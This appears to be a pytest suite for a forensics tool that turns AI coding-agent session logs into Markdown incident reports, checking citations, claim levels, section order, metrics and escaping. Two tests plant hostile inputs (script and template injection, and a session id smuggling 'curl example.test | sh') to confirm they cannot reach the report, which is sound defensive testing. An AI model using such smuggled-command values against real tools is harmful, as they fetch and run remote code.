"""Every `file:line` of a report is looked up, and every quotation found on its line."""

from __future__ import annotations

import json
import re
from datetime import UTC, datetime, timedelta

import pytest
from markdown_it import MarkdownIt

from forensics.analysis.engine import analyse
from forensics.analysis.request import Request
from forensics.render.report.markdown import to_markdown
from tests.support.analyses import analysis_of, report_of
from tests.support.places import INCIDENT, RULE_FIXTURES
from tests.support.report_text import CLAIM, assert_places_exist, cases

EXHIBIT = re.compile(
    r'^- <a id="e\d+"></a>\*\*E\d+\*\* `+(?P<place>[^`]+)`+[^\n]*\n+  (?P<fence>`{3,})text\n  (?P<quote>[^\n]*)\n  (?P=fence)$',
    re.MULTILINE,
)
HIDDEN = re.compile(r"…|\[redacted: [^\]]*\]|�")


def line_of(folder, place: str) -> str:
    name, _, number = place.rpartition(":")
    lines = (folder / name).read_bytes().split(b"\n")
    return lines[int(number) - 1].decode("utf-8", "replace")


@pytest.mark.parametrize(("name", "folder"), [pytest.param(*case, id=case[0]) for case in cases()])
def test_every_quotation_stands_where_the_report_says(name, folder):
    report = report_of(folder)
    exhibits = list(EXHIBIT.finditer(report))
    assert len(exhibits) == len(re.findall(r"></a>\*\*E\d", report)), (
        "an exhibit is not in the form that this test can read"
    )
    cited = {(r.path, r.line, r.excerpt) for f in analysis_of(folder).findings for r in f.evidence}
    assert len(exhibits) >= len(cited), "evidence of a finding is not quoted"
    for exhibit in exhibits:
        raw = line_of(folder, exhibit["place"])
        for piece in HIDDEN.split(exhibit["quote"]):
            assert piece in raw, (exhibit["place"], piece)


def test_every_place_of_the_incident_report_exists():
    assert assert_places_exist(report_of(INCIDENT), analysis_of(INCIDENT)) > 50


def test_every_sentence_about_the_session_carries_its_claim_level():
    report = report_of(INCIDENT)
    told = re.findall(r"\*\*(?:What Happened|Why This Failed|Impact)\*\*:\n\n((?:- [^\n]*\n)+)", report)
    sentences = [line for block in told for line in block.splitlines()]
    assert len(sentences) > 20
    for sentence in sentences:
        assert CLAIM.search(sentence), sentence
        assert "*(hypothesis" not in sentence


def test_what_was_observed_names_its_evidence():
    report = report_of(INCIDENT)
    assert re.findall(r"^- [^\n]*\*\(observed\)\*$", report, re.MULTILINE) == []


def test_hypotheses_stand_under_open_questions_only():
    report = report_of(INCIDENT)
    before, _, after = report.partition("## OPEN QUESTIONS")
    questions, _, rest = after.partition("### What These Logs Cannot Show")
    assert "(hypothesis;" in questions
    assert "*(hypothesis" not in before.partition("> Every sentence")[2].partition("\n")[2]
    assert "(hypothesis" not in rest


def test_the_report_has_the_sections_of_the_known_format_in_their_order():
    headings = re.findall(r"^## (.+)$", report_of(INCIDENT), re.MULTILINE)
    wanted = [
        "EXECUTIVE SUMMARY",
        "TIMELINE OF FAILURE",
        "ERROR CATEGORY 1: AGENT DEPLOYMENT ANTI-PATTERNS",
        "ERROR CATEGORY 2: ARCHITECTURE FAILURES",
        "ERROR CATEGORY 3: PLANNING & STRATEGY FAILURES",
        "ERROR CATEGORY 4: OPERATIONAL FAILURES",
        "REMEDIATION STRATEGY: ACTION ITEMS",
        "KEY LEARNINGS",
        "RECOMMENDATIONS FOR NEXT SESSION",
        "SUCCESS METRICS FOR FUTURE PARALLEL AGENT RUNS",
    ]
    assert [h for h in headings if h in wanted] == wanted


def test_metrics_are_ticked_only_where_a_rule_ran_and_nothing_was_found_that_denies_them():
    (session,) = analysis_of(INCIDENT).sessions
    report = report_of(INCIDENT)
    clear = {o.rule for o in session.outcomes if o.outcome == "clear"} - session.denied.keys()
    assert set(re.findall(r"^- \[x\] .*\((CCF\d+)", report, re.MULTILINE)) == clear


def test_the_same_evidence_gives_the_same_bytes():
    assert to_markdown(analyse(Request([INCIDENT]))) == report_of(INCIDENT)


def test_log_text_cannot_become_structure(tmp_path):
    hostile = (
        "\\n# Crashed\\n<script>alert(1)</script> | ```` {{ 7*7 }} {% x %} @everyone ::error:: \\u001b[31m"
    )
    record = (
        '{"type":"assistant","sessionId":"11111111-1111-4111-8111-111111111111","timestamp":"2026-01-02T03:04:0%dZ","uuid":"u%d",'
        '"version":"2.0.24","cwd":"/home/dev/x","message":{"id":"m%d","role":"assistant","content":[{"type":"tool_use",'
        '"id":"toolu_%d","name":"Task","input":{"description":"%s","prompt":"p%d","subagent_type":"general-purpose"}}]}}'
    )
    lines = [record % (n, n, 1, n, hostile, n) for n in (1, 2)]
    (tmp_path / "session.jsonl").write_text("\n".join(lines) + "\n", encoding="utf-8")
    report = to_markdown(analyse(Request([tmp_path])))
    assert "\n# Crashed" not in report
    assert "\x1b" not in report
    assert "{{ 7*7 }}".replace("{", "\\{").replace("}", "\\}").replace("*", "\\*") in report
    html = MarkdownIt("gfm-like", {"linkify": False, "html": True}).render(report)
    assert "<script>" not in html


def test_every_piece_of_evidence_that_is_quoted_is_referred_to():
    report = report_of(INCIDENT)
    quoted = set(re.findall(r"</a>\*\*(E\d+)\*\*", report))
    (session,) = analysis_of(INCIDENT).sessions
    for finding in session.findings:
        told = report.partition(f"({finding.rule} {finding.name}, ")[2].partition("**Related**")[0]
        assert set(re.findall(r"E\d+", told)) & quoted, finding.rule


def metric(report: str, code: str) -> str:
    told = re.search(rf"^- \[[ x]\] [^\n]*: \*\*([\w ]+)\*\* \(\[?{code}\b", report, re.MULTILINE)
    return (
        told[1]
        if told
        else re.search(rf"^\*\*(Not measured)\*\*, .*\b{code}\b", report, re.MULTILINE)[1].lower()
    )


def test_an_overlap_without_hazard_breaks_no_contract():
    folder = next((RULE_FIXTURES / "CCF101/fires").glob("overlap-alone/input"))
    report = report_of(folder)
    assert metric(report, "CCF101") == "pass"
    assert "The Rule That Applies, and Was Not Broken" in report
    assert not re.search(r"❌ [^\n]*\(CCF101\)", report)


def test_an_end_that_is_not_recorded_is_not_measured():
    report = to_markdown(analyse(Request(sorted((INCIDENT / ".claude/debug").glob("c4f*.txt")))))
    assert metric(report, "CCF901") == "not measured"
    assert metric(report, "CCF201") == "fail"
    assert metric(report, "CCF301") == "not measured"


def test_recovery_names_the_file_that_no_transcript_accounts_for():
    recovery = report_of(INCIDENT).partition("## RECOVERY")[2].partition("## APPENDIX")[0]
    assert re.search(r"- \[ \] `/home/dev/liv-hana/PRIVACY\.md` \(`[^`]+\.txt:\d+`\)", recovery)


def record(second: int, uuid: int, session: str, **more) -> str:
    stamp = datetime(2026, 3, 2, 10, tzinfo=UTC) + timedelta(seconds=second)
    common = {
        "uuid": f"00000000-0000-4000-8000-{uuid:012}",
        "sessionId": session,
        "timestamp": stamp.strftime("%Y-%m-%dT%H:%M:%S.000Z"),
        "isSidechain": False,
        "cwd": "/home/dev/app",
        "version": "2.1.19",
    }
    return json.dumps(common | more) + "\n"


def prompts(session: str, *seconds: int) -> str:
    told = {"type": "user", "message": {"role": "user", "content": "go on"}}
    return "".join(record(s, n, session, **told) for n, s in enumerate(seconds))


def test_a_silence_stands_in_the_timeline_whatever_follows_it(tmp_path):
    session = "5e551011-0000-4000-8000-000000000001"
    (tmp_path / f"{session}.jsonl").write_text(prompts(session, 0, 10, 3610, 3620))
    report = to_markdown(analyse(Request([tmp_path])))
    gap = "No dated record from any source for 1 h, from 2026-03-02T10:00:10.000Z to 2026-03-02T11:00:10.000Z"
    assert gap in report.partition("### Timeline")[2]


def test_only_an_id_that_the_client_gives_becomes_a_command(tmp_path):
    session = "x`; curl example.test | sh #"
    (tmp_path / "session.jsonl").write_text(prompts(session, 0, 10))
    recovery = (
        to_markdown(analyse(Request([tmp_path]))).partition("## RECOVERY")[2].partition("## APPENDIX")[0]
    )
    assert "claude --resume" not in recovery
    assert "curl" not in recovery


def test_a_control_gap_stands_with_the_event_that_it_explains():
    report = report_of(INCIDENT)
    event = report.partition("(CCF102 ")[2].partition('\n<a id="ccf')[0].partition("### ")[0]
    assert "**Control Gap**: [CCF302](#ccf302) todo-rule-not-enforced (3.2)" in event
    gap = report.partition("(CCF302 todo-rule-not-enforced, control gap, ")[2].partition("### ")[0]
    assert "**Related**: [CCF102](#ccf102) several-todos-in-progress (1.2)" in gap
    assert "**Control Gap**" not in gap


def test_a_zone_that_the_evidence_contradicts_is_shown_with_a_warning_beside_it():
    def said(tz):
        report = report_of(INCIDENT, zone=tz)
        return next(line for line in report.splitlines() if line.startswith("**Local time**")).strip()

    assert said("America/Chicago") == "**Local time**: --tz America/Chicago"
    assert said("Europe/Paris").startswith(
        "**Local time**: --tz Europe/Paris; WARNING: the evidence proves UTC-05:00 for the voice server's clock"
    )
